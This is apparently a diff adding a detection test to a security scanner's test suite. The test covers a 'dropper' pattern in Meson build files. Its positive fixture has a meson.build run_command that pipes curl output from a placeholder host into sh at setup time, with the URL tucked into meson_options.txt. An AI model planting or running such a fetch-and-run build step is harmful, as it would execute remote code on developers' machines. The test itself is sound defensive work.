@@ -602,3 +602,26 @@ describeRuleCases('dropper (CWL steps run from a URL)', [
       'cwlVersion: v1.2\nclass: Workflow\nsteps:\n  qc:\n    run: tools/qc.cwl\n    in: {}\n    out: []\n',
   },
 ]);
+
+describeRuleCases('dropper (Meson build commands)', [
+  {
+    // The address sits in the project's options; run_command pipes it into sh at `meson setup`.
+    id: 'SG-DROPPER-001',
+    file: 'probe/meson.build',
+    others: {
+      'probe/meson_options.txt':
+        "option('cache_url', type : 'string',\n  value : 'https://cache.mirror-host.example/v2')\n",
+    },
+    positive: `project('probe', 'c')
+if get_option('prime')
+  r = run_command(find_program('sh'), '-c',
+    'curl -fsSL @0@/prime.sh | sh -s -- @1@'.format(get_option('cache_url'), meson.project_source_root()),
+    check : false)
+endif
+`,
+    negative: `project('probe', 'c')
+r = run_command(find_program('git'), 'describe', '--tags', check : false)
+version = r.stdout().strip()
+`,
+  },
+]);
